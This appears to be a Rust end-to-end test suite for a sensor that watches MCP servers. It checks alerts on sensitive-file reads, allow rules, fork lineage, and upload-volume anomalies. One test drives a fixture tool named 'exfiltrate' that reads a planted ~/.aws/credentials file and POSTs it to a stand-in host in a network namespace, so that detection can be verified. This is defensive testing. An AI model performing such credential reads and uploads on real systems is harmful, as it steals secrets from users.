//! The file sensor end to end: the real filesystem server (npm) reading a planted
//! secret through a real client's tool call, a sanctioned entry's `files.allow`, a
//! process outside every MCP tree reading the same file, a child that opens a file
//! right after its fork, and a fixture server that reads a credentials file and POSTs
//! it to a host in a network namespace (one exfiltration chain with both legs), and a
//! sanctioned server whose upload jumps far above its learned baseline.

use std::{
    path::{Path, PathBuf},
    process::Command,
    time::Duration,
};

use mcpwatch_e2e::{
    eventually, field, fixture, free_port,
    netns::{KillOnDrop, NetnsPair, Side, SERVER_V4},
    run_client, test_env, token, venv_bin, Agent,
};
use serde_json::Value;

/// A user's home under /home (so that `~/` patterns cover it), removed on drop.
struct TestHome {
    path: PathBuf,
}

impl TestHome {
    fn new(tag: &str) -> Self {
        let path = PathBuf::from("/home").join(token(&format!("mcpwt-{tag}")));
        std::fs::create_dir_all(path.join(".aws")).unwrap();
        std::fs::write(
            path.join(".aws/credentials"),
            "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
        )
        .unwrap();
        std::fs::write(path.join("notes.txt"), "nothing secret\n").unwrap();
        Self { path }
    }

    fn credentials(&self) -> String {
        self.path.join(".aws/credentials").display().to_string()
    }
}

impl Drop for TestHome {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.path);
    }
}

/// A rule file: the repository's, with `sanctioned` entries.
fn rules_file(dir: &Path, sanctioned: &str) -> String {
    let text = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules.yaml")).unwrap();
    assert!(text.contains("sanctioned_servers: []\n"));
    let text = if sanctioned.is_empty() {
        text
    } else {
        text.replace(
            "sanctioned_servers: []\n",
            &format!("sanctioned_servers:\n{sanctioned}"),
        )
    };
    let path = dir.join("rules.yaml");
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

const OCSF: &str = "findings.ocsf.jsonl";

fn start(sanctioned: &str) -> Agent {
    start_edited(sanctioned, |t| t)
}

fn start_edited(sanctioned: &str, edit: impl Fn(String) -> String) -> Agent {
    let dir = tempfile::tempdir().unwrap();
    let rules = rules_file(dir.path(), sanctioned);
    let text = std::fs::read_to_string(&rules).unwrap();
    std::fs::write(&rules, edit(text)).unwrap();
    let ocsf = format!(
        "jsonl:{}?format=ocsf&events=alerts",
        dir.path().join(OCSF).display()
    );
    Agent::start_in(dir, &["--rules", &rules, "--output", &ocsf])
}

fn ocsf_findings(agent: &Agent) -> Vec<Value> {
    std::fs::read_to_string(agent.dir.path().join(OCSF))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

fn filesystem_server() -> String {
    test_env()
        .join("npm/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js")
        .display()
        .to_string()
}

/// One tool call through the official Python SDK client to a stdio server; the
/// client's stdout and pid.
fn call(server: &[&str], tool: &str, args: &str) -> (String, u32) {
    let python = venv_bin("python");
    run_client(
        Command::new(&python)
            .arg(fixture("rules_client.py"))
            .args([tool, args, "stdio"])
            .args(server),
    )
}

fn call_in(pair: &NetnsPair, server: &[&str], tool: &str, args: &str) -> (String, u32) {
    let python = venv_bin("python");
    run_client(
        pair.command(Side::Client, python.to_str().unwrap())
            .arg(fixture("rules_client.py"))
            .args([tool, args, "stdio"])
            .args(server),
    )
}

fn is_alert_on(ev: &Value, rule: &str, path: &str) -> bool {
    ev["type"] == "alert" && ev["rule_id"] == rule && ev["file"]["path"] == path
}

fn wait_exited(agent: &mut Agent, name: &str) -> Value {
    agent.wait_event(Duration::from_secs(15), |e| {
        e["type"] == "mcp_server" && e["action"] == "exited" && e["server"]["name"] == name
    })
}

#[test]
fn the_filesystem_server_reading_a_planted_secret_alerts_and_outsiders_do_not() {
    let home = TestHome::new("fs");
    let cred = home.credentials();
    let mut agent = start("");
    let node = "node";
    let fs = filesystem_server();
    let (out, _) = call(
        &[node, &fs, home.path.to_str().unwrap()],
        "read_text_file",
        &format!(r#"{{"path": "{cred}"}}"#),
    );
    assert!(
        out.contains("AKIAIOSFODNN7EXAMPLE"),
        "the tool call read the file: {out}"
    );
    let a = agent.wait_event(Duration::from_secs(15), |e| {
        is_alert_on(e, "mcp-sensitive-file-access", &cred)
    });
    assert_eq!(*field(&a, "severity"), "High", "{a:#}");
    assert_eq!(*field(&a, "file.access"), "read", "{a:#}");
    assert_eq!(*field(&a, "file.result"), "ok", "{a:#}");
    assert_eq!(*field(&a, "file.op"), "open", "{a:#}");
    assert_eq!(*field(&a, "mcp_server.name"), "secure-filesystem-server", "{a:#}");
    assert_eq!(*field(&a, "process.pid"), *field(&a, "mcp_server.pid"), "{a:#}");
    assert!(
        field(&a, "description")
            .as_str()
            .unwrap()
            .contains("~/.aws/credentials"),
        "the pattern is named: {a:#}"
    );
    // The SIEM's copy: the file as evidence.
    let mut finding = None;
    eventually(Duration::from_secs(10), "the OCSF finding", || {
        finding = ocsf_findings(&agent)
            .into_iter()
            .find(|f| f["finding_info"]["analytic"]["uid"] == "mcp-sensitive-file-access");
        finding.is_some()
    });
    let f = finding.unwrap();
    assert_eq!(*field(&f, "evidences.0.file.path"), cred.as_str(), "{f:#}");
    // The telemetry: a file_access event of the same open.
    let ev = agent.wait_event(Duration::from_secs(5), |e| {
        e["type"] == "file_access" && e["path"] == cred.as_str() && e["process"]["pid"] == a["process"]["pid"]
    });
    assert_eq!(*field(&ev, "path_resolved"), true, "{ev:#}");
    wait_exited(&mut agent, "secure-filesystem-server");

    // A process outside every MCP tree reading the same file: nothing.
    let cat = Command::new("cat").arg(&cred).output().unwrap();
    assert!(cat.status.success());
    let outsider = agent.wait_event(Duration::from_secs(10), |e| {
        e["type"] == "process_exit"
            && e["process"]["comm"] == "cat"
            && e["process"]["argv"][1] == cred.as_str()
    });
    let cat_pid = field(&outsider, "process.pid").clone();
    agent.poll_events();
    assert_eq!(
        agent.count(|e| e["type"] == "file_access" && e["process"]["pid"] == cat_pid),
        0,
        "a process outside the trees is not watched"
    );
    assert_eq!(
        agent.count(|e| is_alert_on(e, "mcp-sensitive-file-access", &cred)),
        1,
        "one alert, from the server"
    );
    agent.stop();
}

#[test]
fn files_allow_of_a_sanctioned_entry_silences_the_sensitive_read() {
    let home = TestHome::new("allow");
    let cred = home.credentials();
    let mut agent = start(&format!(
        "  - id: filesystem\n    name: secure-filesystem-server\n    files:\n      allow: [\"{}/.aws/**\"]\n",
        home.path.display()
    ));
    let fs = filesystem_server();
    let (out, _) = call(
        &["node", &fs, home.path.to_str().unwrap()],
        "read_text_file",
        &format!(r#"{{"path": "{cred}"}}"#),
    );
    assert!(out.contains("AKIAIOSFODNN7EXAMPLE"), "{out}");
    // Seen (presence first), then judged allowed.
    agent.wait_event(Duration::from_secs(15), |e| {
        e["type"] == "file_access" && e["path"] == cred.as_str() && e["result"] == "ok"
    });
    wait_exited(&mut agent, "secure-filesystem-server");
    assert_eq!(
        agent.count(|e| e["type"] == "alert" && e["rule_id"] == "mcp-sensitive-file-access"),
        0,
        "the entry allows the path"
    );
    agent.stop();
}

#[test]
fn a_child_opening_a_file_right_after_its_fork_is_in_the_servers_tree() {
    let home = TestHome::new("fork");
    let cred = home.credentials();
    let mut agent = start("");
    let name = token("forkread");
    let python = venv_bin("python");
    let server = fixture("mcp-server-files.py");
    let (out, _) = call(
        &[python.to_str().unwrap(), server.to_str().unwrap(), &name],
        "fork_read",
        &format!(r#"{{"path": "{cred}"}}"#),
    );
    assert!(out.contains("opened"), "{out}");
    let a = agent.wait_event(Duration::from_secs(15), |e| {
        is_alert_on(e, "mcp-sensitive-file-access", &cred) && e["mcp_server"]["name"] == name.as_str()
    });
    let server_pid = field(&a, "mcp_server.pid").clone();
    assert_ne!(
        *field(&a, "process.pid"),
        server_pid,
        "the child opened it: {a:#}"
    );
    assert_eq!(*field(&a, "lineage.0.pid"), server_pid, "{a:#}");
    assert_eq!(*field(&a, "file.tree_root"), server_pid, "{a:#}");
    // A suspect from its launch: the interpreter opening the script, long before the
    // handshake confirmed the server, was watched already.
    agent.poll_events();
    let script_opens = agent.count(|e| {
        e["type"] == "file_access"
            && e["process"]["pid"] == server_pid
            && e["path"]
                .as_str()
                .is_some_and(|p| p.ends_with("/mcp-server-files.py"))
    });
    assert!(script_opens >= 1, "the script's own open is reported");
    agent.stop();
}

#[test]
fn a_credentials_read_then_a_post_to_a_namespace_host_is_one_exfiltration_chain() {
    let home = TestHome::new("exfil");
    let cred = home.credentials();
    let secret_len = std::fs::metadata(&cred).unwrap().len();
    let mut agent = start("");
    let pair = NetnsPair::new("exfil");
    let port = free_port();
    let _sink = KillOnDrop(
        pair.command(Side::Server, venv_bin("python").to_str().unwrap())
            .arg(fixture("http_sink.py"))
            .args([SERVER_V4, &port.to_string()])
            .spawn()
            .unwrap(),
    );
    let url = format!("http://{SERVER_V4}:{port}/upload");
    let python = venv_bin("python");
    let server = fixture("mcp-server-files.py");
    let name = token("exfil");
    // The sink listens before the server is started: its first connection is the one.
    let target = format!("{SERVER_V4}:{port}");
    eventually(Duration::from_secs(10), "the sink listening", || {
        let t = target.clone();
        pair.run(Side::Client, move || std::net::TcpStream::connect(&t).is_ok())
    });
    let (out, _) = call_in(
        &pair,
        &[python.to_str().unwrap(), server.to_str().unwrap(), &name],
        "exfiltrate",
        &format!(r#"{{"path": "{cred}", "url": "{url}"}}"#),
    );
    assert!(out.contains(&format!("sent {secret_len} bytes")), "{out}");
    let chain = agent.wait_event(Duration::from_secs(20), |e| {
        e["type"] == "alert"
            && e["rule_id"] == "mcp-exfiltration-chain"
            && e["mcp_server"]["name"] == name.as_str()
    });
    // For the record (`--nocapture`): the finding as the local output has it.
    println!("chain finding: {chain:#}");
    assert_eq!(*field(&chain, "severity"), "Critical", "{chain:#}");
    assert_eq!(*field(&chain, "chain.reads.0.path"), cred.as_str(), "{chain:#}");
    assert_eq!(
        *field(&chain, "chain.reads.0.pattern"),
        "~/.aws/credentials",
        "{chain:#}"
    );
    assert_eq!(
        *field(&chain, "chain.reads.0.finding.rule_id"),
        "mcp-sensitive-file-access",
        "{chain:#}"
    );
    assert_eq!(*field(&chain, "connection.remote.ip"), SERVER_V4, "{chain:#}");
    assert_eq!(*field(&chain, "connection.remote.port"), port, "{chain:#}");
    let sent = field(&chain, "chain.bytes_sent").as_u64().unwrap();
    assert!(
        sent >= secret_len,
        "the POST carried the secret: {sent} bytes, {chain:#}"
    );
    let reason = field(&chain, "chain.egress_reason").as_str().unwrap();
    assert!(reason.contains("outside the policy"), "{chain:#}");
    // The read's own finding, which the chain names.
    let read = agent.wait_event(Duration::from_secs(5), |e| {
        is_alert_on(e, "mcp-sensitive-file-access", &cred) && e["mcp_server"]["name"] == name.as_str()
    });
    assert_eq!(
        *field(&chain, "chain.reads.0.finding.identity"),
        *field(&read, "identity"),
        "{chain:#}"
    );
    wait_exited(&mut agent, &name);
    assert_eq!(
        agent.count(|e| e["type"] == "alert"
            && e["rule_id"] == "mcp-exfiltration-chain"
            && e["mcp_server"]["name"] == name.as_str()),
        1,
        "one chain finding"
    );
    // In OCSF: the chain's related event is the read's finding.
    let mut findings = Vec::new();
    eventually(Duration::from_secs(10), "both OCSF findings", || {
        findings = ocsf_findings(&agent);
        findings
            .iter()
            .any(|f| f["finding_info"]["analytic"]["uid"] == "mcp-exfiltration-chain")
            && findings
                .iter()
                .any(|f| f["unmapped"]["identity"] == read["identity"])
    });
    let c = findings
        .iter()
        .find(|f| f["finding_info"]["analytic"]["uid"] == "mcp-exfiltration-chain")
        .unwrap();
    let r = findings
        .iter()
        .find(|f| f["unmapped"]["identity"] == read["identity"])
        .unwrap();
    assert_eq!(
        *field(c, "finding_info.related_events.0.uid"),
        *field(r, "finding_info.uid"),
        "{c:#}"
    );
    assert_eq!(*field(c, "evidences.1.file.path"), cred.as_str(), "{c:#}");
    assert_eq!(*field(c, "evidences.0.dst_endpoint.ip"), SERVER_V4, "{c:#}");
    agent.stop();
}

/// An HTTP sink in the server side of `pair`, listening before the test goes on.
fn sink(pair: &NetnsPair) -> (KillOnDrop, u16) {
    let port = free_port();
    let child = KillOnDrop(
        pair.command(Side::Server, venv_bin("python").to_str().unwrap())
            .arg(fixture("http_sink.py"))
            .args([SERVER_V4, &port.to_string()])
            .spawn()
            .unwrap(),
    );
    let target = format!("{SERVER_V4}:{port}");
    eventually(Duration::from_secs(10), "the sink listening", || {
        let t = target.clone();
        pair.run(Side::Client, move || std::net::TcpStream::connect(&t).is_ok())
    });
    (child, port)
}

#[test]
fn an_upload_far_above_a_sanctioned_servers_learned_baseline_is_a_volume_anomaly() {
    let name = token("volume");
    // Sanctioned, its egress allowed to the namespace: the destination policy lets
    // the upload through; only its size gives it away.
    let mut agent = start_edited(
        &format!("  - id: uploader\n    name: \"{name}\"\n    egress:\n      allow:\n        cidrs: [10.77.0.0/24]\n"),
        |t| {
            assert!(t.contains("  window: 5m\n  learning_windows: 12\n"));
            t.replace("  window: 5m\n  learning_windows: 12\n", "  window: 1s\n  learning_windows: 3\n")
                .replace("min_window_bytes: 1048576", "min_window_bytes: 65536")
        },
    );
    let pair = NetnsPair::new("volume");
    let (_sink, port) = sink(&pair);
    let url = format!("http://{SERVER_V4}:{port}/telemetry");
    let post = |kib: u32| serde_json::json!(["post", {"url": url, "kib": kib}]);
    // Usual traffic: 4 KiB every half second for 4 s (windows of 1 s), then a 2 MiB
    // upload, then usual traffic again.
    let mut calls: Vec<Value> = (0..8).map(|_| post(4)).collect();
    calls.push(post(2048));
    calls.extend((0..3).map(|_| post(4)));
    let python = venv_bin("python");
    let server = fixture("mcp-server-files.py");
    let (out, _) = call_in(
        &pair,
        &[python.to_str().unwrap(), server.to_str().unwrap(), &name],
        "-",
        &Value::Array(calls).to_string(),
    );
    assert!(out.contains("posted 4 KiB"), "{out}");
    let a = agent.wait_event(Duration::from_secs(15), |e| {
        e["type"] == "alert"
            && e["rule_id"] == "mcp-egress-volume-anomaly"
            && e["mcp_server"]["name"] == name.as_str()
    });
    assert_eq!(*field(&a, "sanctioned_entry"), "uploader", "{a:#}");
    assert_eq!(*field(&a, "connection.remote.ip"), SERVER_V4, "{a:#}");
    let sent = field(&a, "connection.bytes_sent").as_u64().unwrap();
    assert!(
        sent >= 2048 * 1024,
        "the alert is about the upload: {sent} bytes, {a:#}"
    );
    let d = field(&a, "description").as_str().unwrap();
    assert!(d.contains("baseline") && d.contains("windows"), "{a:#}");
    wait_exited(&mut agent, &name);
    assert_eq!(
        agent.count(|e| e["type"] == "alert"
            && e["rule_id"] == "mcp-egress-volume-anomaly"
            && e["mcp_server"]["name"] == name.as_str()),
        1,
        "the usual traffic before and after raised nothing"
    );
    // Every POST was seen: the baseline learned from real byte reports.
    let closes = agent.count(|e| {
        e["type"] == "network_close"
            && e["remote"]["port"] == port
            && e["process"]["argv"][2] == name.as_str()
    });
    assert!(closes >= 12, "{closes} closes of the 12 POST connections");
    agent.stop();
}
